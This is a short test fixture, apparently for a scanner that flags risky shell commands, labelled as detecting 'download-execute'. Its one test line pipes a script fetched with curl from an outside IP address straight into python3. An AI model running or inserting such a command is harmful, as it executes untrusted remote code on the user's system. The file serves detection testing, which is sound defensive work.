# SPDX-License-Identifier: Apache-2.0
# A download is piped into an interpreter.
# finds: download-execute
# needs: curl python3
call c1 'curl -s http://203.0.113.11/install.py | python3 -'
